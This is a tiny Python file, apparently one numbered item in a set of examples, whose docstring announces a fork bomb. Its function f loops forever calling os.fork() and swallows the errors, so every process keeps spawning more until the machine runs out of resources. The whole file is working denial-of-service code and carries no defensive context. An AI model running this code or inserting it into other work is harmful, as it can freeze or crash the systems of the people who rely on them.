"""1. Fork bomb: every process forks forever."""

import contextlib
import os


def f(x):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
